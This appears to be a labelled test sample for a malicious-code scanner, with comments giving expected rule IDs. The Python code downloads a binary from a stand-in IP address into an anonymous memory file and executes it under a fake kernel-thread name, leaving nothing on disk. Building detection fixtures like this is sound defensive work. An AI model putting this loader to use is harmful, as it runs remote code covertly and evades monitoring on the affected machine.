# label: hostile
# expect: V201 V301 V401 V402
# note: Downloads a program into an anonymous memory file and executes it from there; nothing touches the disk.
# allow: V101
import ctypes
import os
import urllib.request

fd = ctypes.CDLL(None).syscall(319, b"", 1)
with urllib.request.urlopen("http://203.0.113.40/agent.elf") as r:
    os.write(fd, r.read())
os.execve(f"/proc/self/fd/{fd}", ["[kworker/0:1]"], {})
